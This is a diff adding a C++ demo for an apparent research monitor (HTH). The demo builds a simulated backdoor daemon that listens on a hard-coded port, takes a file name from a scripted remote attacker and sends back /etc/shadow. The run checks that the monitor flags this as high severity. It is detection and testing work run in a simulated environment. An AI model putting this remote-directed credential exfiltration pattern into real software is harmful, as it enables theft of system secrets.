@@ -1,0 +1,93 @@
+/**
+ * @file
+ * Hunting a backdoor: a daemon opens a server socket on a
+ * hard-coded address and lets a remote "attacker" name the file it
+ * exfiltrates — the scenario class HTH's information-flow policy is
+ * built for (paper §2.2 pattern 2: the malicious code is directed
+ * by the remote attacker once a connection is established).
+ *
+ * Demonstrates the simulated network: scripted remote peers connect
+ * to guest servers and exchange data with them.
+ */
+
+#include <iostream>
+
+#include "core/Hth.hh"
+#include "workloads/GuestLib.hh"
+
+using namespace hth;
+using namespace hth::workloads;
+
+int
+main()
+{
+    //
+    // The backdoor daemon: listen on the hard-coded address, read a
+    // file name from the attacker, send that file's contents back.
+    //
+    Gasm a("/demo/backdoor.exe");
+    a.dataString("bindaddr", "LocalHost:1337");
+    a.dataSpace("namebuf", 64);
+    a.dataSpace("filebuf", 128);
+    a.dataSpace("conn_slot", 4);
+    a.label("main");
+    a.entry("main");
+    a.sockCreate();
+    a.mov(Reg::Ebp, Reg::Eax);
+    a.leaSym(Reg::Edx, "bindaddr");
+    a.sockBind(Reg::Ebp, Reg::Edx);
+    a.sockListen(Reg::Ebp);
+    a.sockAccept(Reg::Ebp);
+    a.leaSym(Reg::Edi, "conn_slot");
+    a.store(Reg::Edi, 0, Reg::Eax);
+    a.mov(Reg::Ebp, Reg::Eax);
+
+    // The attacker names the loot file.
+    a.leaSym(Reg::Edx, "namebuf");
+    a.sockRecv(Reg::Ebp, Reg::Edx, 63);
+
+    // Open it (name originated from the socket!) and exfiltrate.
+    a.leaSym(Reg::Eax, "namebuf");
+    a.openReg(Reg::Eax, GO_RDONLY);
+    a.mov(Reg::Esi, Reg::Eax);
+    a.readFd(Reg::Esi, "filebuf", 127);
+    a.mov(Reg::Edx, Reg::Eax);
+    a.leaSym(Reg::Edi, "conn_slot");
+    a.load(Reg::Ebp, Reg::Edi, 0);
+    a.leaSym(Reg::Ecx, "filebuf");
+    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+    a.exit(0);
+    auto daemon = a.build();
+
+    //
+    // World setup: the attacker connects as soon as the daemon
+    // listens, asks for /etc/shadow, and hangs up once served.
+    //
+    Hth hth;
+    os::Kernel &k = hth.kernel();
+    k.vfs().addBinary(daemon->path, daemon);
+    k.vfs().addFile("/etc/shadow", "root:$1$abcdefgh:19000::\n");
+    k.net().addHost("gateway");
+
+    os::RemotePeer attacker;
+    attacker.name = "gateway:55555";
+    attacker.onConnect = [](os::RemoteConn &c) {
+        c.send("/etc/shadow");
+    };
+    attacker.onData = [](os::RemoteConn &c, const std::string &data) {
+        std::cout << "[attacker received " << data.size()
+                  << " bytes]\n";
+        c.close();
+    };
+    k.net().addRemoteClient("LocalHost:1337", attacker);
+
+    Report report = hth.monitor(daemon->path, {daemon->path});
+
+    std::cout << "\n" << report.transcript << "\n"
+              << "verdict: "
+              << (report.flagged(secpert::Severity::High)
+                      ? "HIGH-severity backdoor behaviour detected"
+                      : "nothing detected?!")
+              << "\n";
+    return report.flagged(secpert::Severity::High) ? 0 : 1;
+}
